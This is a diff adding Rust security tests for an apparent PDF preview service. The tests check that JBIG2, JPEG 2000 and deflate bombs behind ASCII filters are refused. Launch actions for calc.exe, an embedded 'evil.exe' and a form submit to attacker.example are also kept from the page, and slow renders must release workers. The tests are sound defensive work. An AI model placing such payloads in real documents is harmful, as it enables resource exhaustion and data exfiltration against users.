@@ -329,6 +329,172 @@ async fn hostile_pdfs_are_refused_with_the_limit_they_break() {
     assert_eq!((status, code.as_str()), (422, "corrupt"));
 }
 
+/// A JBIG2 segment (T.88, 7.2): number, type, no referred segments, page 1, its data.
+fn jbig2_segment(number: u32, kind: u8, body: &[u8]) -> Vec<u8> {
+    let mut s = number.to_be_bytes().to_vec();
+    s.extend_from_slice(&[kind, 0, 1]);
+    s.extend_from_slice(&(body.len() as u32).to_be_bytes());
+    s.extend_from_slice(body);
+    s
+}
+
+/// A JBIG2 stream that declares a `w` × `h` page and ends it (no region: the decoder
+/// allocates the page bitmap from this alone).
+fn jbig2_page(w: u32, h: u32) -> Vec<u8> {
+    let mut info = w.to_be_bytes().to_vec();
+    info.extend_from_slice(&h.to_be_bytes());
+    info.extend_from_slice(&[0; 11]);
+    let mut data = jbig2_segment(0, 48, &info);
+    data.extend(jbig2_segment(1, 49, &[]));
+    data
+}
+
+/// A JPEG 2000 codestream's start whose SIZ marker declares `w` × `h`.
+fn jpx_head(w: u32, h: u32) -> Vec<u8> {
+    let mut siz = vec![0xff, 0x4f, 0xff, 0x51, 0, 41, 0, 0];
+    siz.extend_from_slice(&w.to_be_bytes());
+    siz.extend_from_slice(&h.to_be_bytes());
+    siz.extend_from_slice(&[0; 30]);
+    siz
+}
+
+fn ascii_hex(data: &[u8]) -> Vec<u8> {
+    let mut out: String = data.iter().map(|b| format!("{b:02x}")).collect();
+    out.push('>');
+    out.into_bytes()
+}
+
+fn ascii85(data: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    for chunk in data.chunks(4) {
+        let mut word = [0u8; 4];
+        word[..chunk.len()].copy_from_slice(chunk);
+        let mut n = u32::from_be_bytes(word);
+        if n == 0 && chunk.len() == 4 {
+            out.push(b'z');
+            continue;
+        }
+        let mut digits = [0u8; 5];
+        for d in digits.iter_mut().rev() {
+            *d = b'!' + (n % 85) as u8;
+            n /= 85;
+        }
+        out.extend_from_slice(&digits[..chunk.len() + 1]);
+    }
+    out.extend_from_slice(b"~>");
+    out
+}
+
+/// A page that draws one 10 × 10 image, its stream `filters` and `data`.
+fn image_page(filters: &str, data: &[u8]) -> Vec<u8> {
+    let image = stream(
+        &format!("/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter {filters}"),
+        data,
+    );
+    one_page(
+        "/Resources << /XObject << /Im1 5 0 R >> >>",
+        stream("", b"q 200 0 0 200 0 0 cm /Im1 Do Q"),
+        vec![image],
+    )
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn bombs_behind_ascii_filters_are_refused_and_small_images_render() {
+    // A low cap, so the bombs stay affordable if one got through to the decoder.
+    let s = start(|c| c.pdf.max_image_pixels = 1_000_000).await;
+    let bomb = jbig2_page(4000, 4000);
+    let jpx = jpx_head(4000, 4000);
+    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
+        ("jbig2.pdf", "/JBIG2Decode", bomb.clone()),
+        (
+            "jbig2-flate.pdf",
+            "[/FlateDecode /JBIG2Decode]",
+            zlib(&bomb, 6),
+        ),
+        (
+            "jbig2-hex.pdf",
+            "[/ASCIIHexDecode /JBIG2Decode]",
+            ascii_hex(&bomb),
+        ),
+        ("jbig2-a85.pdf", "[/A85 /JBIG2Decode]", ascii85(&bomb)),
+        (
+            "jbig2-hex-flate.pdf",
+            "[/AHx /Fl /JBIG2Decode]",
+            ascii_hex(&zlib(&bomb, 6)),
+        ),
+        (
+            "jpx-hex.pdf",
+            "[/ASCIIHexDecode /JPXDecode]",
+            ascii_hex(&jpx),
+        ),
+        ("jpx-a85.pdf", "[/ASCII85Decode /JPXDecode]", ascii85(&jpx)),
+    ];
+    for (name, filters, data) in cases {
+        let (status, code, message) = refused(&s, name, image_page(filters, &data)).await;
+        assert_eq!(
+            (status, code.as_str()),
+            (422, "corrupt"),
+            "{name}: {message}"
+        );
+        assert!(
+            message.contains("4000 × 4000") && message.contains("pdf.max_image_pixels"),
+            "{name}: {message}"
+        );
+    }
+    // Behind LZW the codestream is not read, so it is refused as such.
+    let (status, code, message) = refused(
+        &s,
+        "jbig2-lzw.pdf",
+        image_page("[/LZWDecode /JBIG2Decode]", &bomb),
+    )
+    .await;
+    assert_eq!((status, code.as_str()), (422, "corrupt"), "{message}");
+    assert!(message.contains("LZW"), "{message}");
+    // A deflate bomb spelled in hex or base 85 is measured like the bare one.
+    let deflated = zlib(&vec![0u8; 64 << 20], 9);
+    for (name, filters, data) in [
+        (
+            "bomb-hex.pdf",
+            "[/ASCIIHexDecode /FlateDecode]",
+            ascii_hex(&deflated),
+        ),
+        ("bomb-a85.pdf", "[/A85 /Fl]", ascii85(&deflated)),
+    ] {
+        let content = stream(&format!("/Filter {filters}"), &data);
+        let (status, code, message) = refused(&s, name, one_page("", content, vec![])).await;
+        assert_eq!(
+            (status, code.as_str()),
+            (422, "corrupt"),
+            "{name}: {message}"
+        );
+        assert!(
+            message.contains("pdf.max_inflate_ratio"),
+            "{name}: {message}"
+        );
+    }
+    // A JBIG2 page under the cap opens, and its page request is a page, behind the same
+    // filters.
+    for (name, filters, data) in [
+        ("small.pdf", "/JBIG2Decode", jbig2_page(900, 900)),
+        (
+            "small-hex.pdf",
+            "[/ASCIIHexDecode /JBIG2Decode]",
+            ascii_hex(&jbig2_page(900, 900)),
+        ),
+    ] {
+        s.write(name, image_page(filters, &data));
+        let (id, token) = ids(&s.preview_ok(name).await);
+        let response = s.get(&format!("/p/{id}/{token}/page/1?scale=1")).await;
+        assert_eq!(response.status(), 200, "{name}");
+        assert!(
+            response.headers().get("x-previewd-page").is_none(),
+            "{name}"
+        );
+        let img = image::load_from_memory(&response.bytes().await.unwrap()).unwrap();
+        assert_eq!((img.width(), img.height()), (200, 200), "{name}");
+    }
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn broken_structure_ends_in_a_page_or_a_clear_error() {
     let s = start(|_| {}).await;
@@ -466,6 +632,64 @@ async fn only_http_links_are_exposed_and_actions_are_not() {
     assert!(!shell.to_lowercase().contains("app.alert"), "{shell}");
 }
 
+#[tokio::test(flavor = "multi_thread")]
+async fn launch_actions_embedded_files_and_links_into_files_are_not_exposed() {
+    let s = start(|_| {}).await;
+    // An open action that launches a program, an embedded file, a form field whose action
+    // submits the form, and link annotations that launch, go to another file and import
+    // data: none of them is an http(s) URL, so none reaches the model or the page.
+    let objects = vec![
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> /Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /AcroForm << /Fields [8 0 R] >> >>".to_vec(),
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [5 0 R 9 0 R 10 0 R 8 0 R] >>".to_vec(),
+        stream("", b"BT /F1 12 Tf 20 100 Td (actions) Tj ET"),
+        b"<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A << /S /Launch /F (calc.exe) >> >>".to_vec(),
+        b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>".to_vec(),
+        stream("/Type /EmbeddedFile", b"MZ not a program"),
+        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [10 40 100 60] /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/submit) >> >> >>".to_vec(),
+        b"<< /Type /Annot /Subtype /Link /Rect [10 70 100 90] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>".to_vec(),
+        b"<< /Type /Annot /Subtype /Link /Rect [10 120 100 140] /A << /S /ImportData /F (data.fdf) >> >>".to_vec(),
+    ];
+    s.write("actions.pdf", assemble(&objects));
+    let (id, token) = ids(&s.preview_ok("actions.pdf").await);
+    let model = json(&s, &format!("/p/{id}/{token}/model.json")).await;
+    assert!(
+        model["pages"][0]["links"].as_array().unwrap().is_empty(),
+        "{model}"
+    );
+    let shell = s.get_text(&format!("/p/{id}/{token}/")).await;
+    for word in [
+        "calc.exe",
+        "evil.exe",
+        "other.pdf",
+        "attacker.example",
+        "data.fdf",
+    ] {
+        assert!(!shell.contains(word), "{word}");
+        assert!(!model.to_string().contains(word), "{word}");
+    }
+    let info = s.get_text(&format!("/p/{id}/{token}/info")).await;
+    assert!(!info.contains("evil.exe"));
+    // The page itself renders.
+    let response = s.get(&format!("/p/{id}/{token}/page/1?scale=1")).await;
+    assert_eq!(response.status(), 200);
+    assert!(response.headers().get("x-previewd-page").is_none());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_document_over_the_page_limit_is_refused_with_the_key() {
+    let s = start(|c| c.pdf.max_pages = 2).await;
+    let pages = vec![PageSpec::new(100.0, 100.0); 3];
+    let (status, code, message) = refused(&s, "three.pdf", document(&pages, "three", &[])).await;
+    assert_eq!((status, code.as_str()), (422, "corrupt"), "{message}");
+    assert!(
+        message.contains("3 pages") && message.contains("pdf.max_pages"),
+        "{message}"
+    );
+    s.write("two.pdf", document(&pages[..2], "two", &[]));
+    s.preview_ok("two.pdf").await;
+}
+
 #[test]
 fn the_cli_renders_a_page_and_prints_text_as_json() {
     let dir = tempfile::tempdir().unwrap();
@@ -502,14 +726,22 @@ fn the_cli_renders_a_page_and_prints_text_as_json() {
     assert!(String::from_utf8_lossy(&missing.stderr).contains("not_found"));
 }
 
-/// A page of eight nested forms each drawing the next four times: 4^8 (65,536) squares, a
-/// raster of seconds that cannot be stopped. (Not more: the test's runtime waits for the
-/// renders to end before the test can finish.)
-fn slow_page_objects(first: usize) -> Vec<Vec<u8>> {
-    const LEVELS: usize = 8;
-    (0..LEVELS)
+/// `count` small filled squares in one content stream: a raster of seconds with no object
+/// looked up, which the deadline cannot stop (only the service's late-render cap holds it).
+fn squares(count: usize) -> String {
+    let mut content = String::with_capacity(count * 16);
+    for i in 0..count {
+        content.push_str(&format!("{} {} 1 1 re f\n", i % 190, (i / 190) % 190));
+    }
+    content
+}
+
+/// `levels` nested forms, objects `first`.., each drawing the next four times, the last a
+/// square: 4^(levels-1) squares, and an object looked up for each `Do`.
+fn nested_forms(first: usize, levels: usize) -> Vec<Vec<u8>> {
+    (0..levels)
         .map(|level| {
-            let (content, resources) = if level + 1 < LEVELS {
+            let (content, resources) = if level + 1 < levels {
                 (
                     "/X Do /X Do /X Do /X Do".to_string(),
                     format!("/Resources << /XObject << /X {} 0 R >> >>", first + level + 1),
@@ -526,6 +758,13 @@ fn slow_page_objects(first: usize) -> Vec<Vec<u8>> {
         .collect()
 }
 
+/// The pool's running jobs, from `/healthz`.
+async fn running(s: &TestServer) -> u64 {
+    json(s, "/healthz").await["pool"]["running"]
+        .as_u64()
+        .unwrap()
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn slow_pages_take_one_worker_each_and_at_most_half_the_pool() {
     let s = start(|c| {
@@ -533,40 +772,17 @@ async fn slow_pages_take_one_worker_each_and_at_most_half_the_pool() {
         c.work.workers = 4;
     })
     .await;
-    // Pages 1-3 are slow, page 4 is empty. Objects: catalog 1, pages 2, page dicts 3-6,
-    // contents 7-10, then eight forms per slow page.
-    let mut objects = vec![
-        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
-        b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R 6 0 R] /Count 4 >>".to_vec(),
-    ];
-    for p in 0..4 {
-        let resources = if p < 3 {
-            format!("/Resources << /XObject << /X {} 0 R >> >>", 11 + 8 * p)
-        } else {
-            String::new()
-        };
-        objects.push(
-            format!(
-                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {resources} /Contents {} 0 R >>",
-                7 + p
-            )
-            .into_bytes(),
-        );
-    }
-    for p in 0..4 {
-        let content = if p < 3 { "/X Do" } else { "" };
-        objects.push(stream("", content.as_bytes()));
-    }
-    for p in 0..3 {
-        objects.extend(slow_page_objects(11 + 8 * p));
-    }
-    s.write("slow3.pdf", assemble(&objects));
+    // Pages 1-3 are slow in a way the deadline cannot stop (one long stream of paths),
+    // page 4 is empty.
+    let mut pages: Vec<PageSpec> = (0..3)
+        .map(|_| PageSpec {
+            content: squares(150_000),
+            ..PageSpec::new(200.0, 200.0)
+        })
+        .collect();
+    pages.push(PageSpec::new(200.0, 200.0));
+    s.write("slow3.pdf", document(&pages, "slow", &[]));
     let (id, token) = ids(&s.preview_ok("slow3.pdf").await);
-    let running = || async {
-        json(&s, "/healthz").await["pool"]["running"]
-            .as_u64()
-            .unwrap()
-    };
     let page = |n: u32| {
         let path = format!("/p/{id}/{token}/page/{n}?scale=1");
         let s = &s;
@@ -574,23 +790,61 @@ async fn slow_pages_take_one_worker_each_and_at_most_half_the_pool() {
     };
     let r = page(1).await;
     assert_eq!(r.headers()["x-previewd-page"], "timeout");
-    assert_eq!(running().await, 1, "page 1 keeps its worker");
+    assert_eq!(running(&s).await, 1, "page 1 keeps its worker");
     // Asked again, page 1 is not started a second time.
     let r = page(1).await;
     assert_eq!(r.headers()["x-previewd-page"], "timeout");
-    assert_eq!(running().await, 1, "a slow page is not rendered twice");
+    assert_eq!(running(&s).await, 1, "a slow page is not rendered twice");
     let r = page(2).await;
     assert_eq!(r.headers()["x-previewd-page"], "timeout");
-    assert_eq!(running().await, 2);
+    assert_eq!(running(&s).await, 2);
     // Two late renders hold half of the four workers: page 3 is not started.
     let r = page(3).await;
     assert_eq!(r.headers()["x-previewd-page"], "timeout");
     assert_eq!(
-        running().await,
+        running(&s).await,
         2,
         "no raster starts while half the pool is late"
     );
     // The rest of the service still works.
     let layer = json(&s, &format!("/p/{id}/{token}/text/4")).await;
+    assert!(layer["runs"].as_array().unwrap().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_past_its_deadline_gives_its_worker_back() {
+    let s = start(|c| {
+        c.pdf.page_timeout_ms = 300;
+        c.work.workers = 2;
+    })
+    .await;
+    // Eleven nested forms: 4^10 (about a million) squares, minutes of raster in a debug
+    // build, each drawn through a `Do` that looks its form up.
+    let file = one_page(
+        "/Resources << /XObject << /X 5 0 R >> >>",
+        stream("", b"/X Do"),
+        nested_forms(5, 11),
+    );
+    s.write("forms.pdf", file);
+    let (id, token) = ids(&s.preview_ok("forms.pdf").await);
+    let path = format!("/p/{id}/{token}/page/1?scale=1");
+    let r = s.get(&path).await;
+    assert_eq!(r.headers()["x-previewd-page"], "timeout");
+    // The render stops at its deadline, so its worker comes back. Polled, with a bound far
+    // past the deadline (the render itself would take minutes).
+    let mut left = running(&s).await;
+    for _ in 0..300 {
+        if left == 0 {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+        left = running(&s).await;
+    }
+    assert_eq!(left, 0, "the late raster still holds its worker");
+    // Asked again, the page is the tile at once and starts no render.
+    let r = s.get(&path).await;
+    assert_eq!(r.headers()["x-previewd-page"], "timeout");
+    assert_eq!(running(&s).await, 0);
+    let layer = json(&s, &format!("/p/{id}/{token}/text/1")).await;
     assert!(layer["runs"].as_array().unwrap().is_empty());
 }
